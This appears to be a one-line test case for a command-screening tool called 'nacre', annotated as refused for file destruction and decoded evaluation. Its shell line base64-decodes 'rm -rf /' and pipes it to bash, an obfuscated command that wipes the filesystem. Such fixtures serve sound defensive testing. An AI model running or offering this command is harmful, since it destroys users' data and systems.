# nacre: refused file.destroy code.eval-decoded
echo cm0gLXJmIC8= | base64 -d | bash
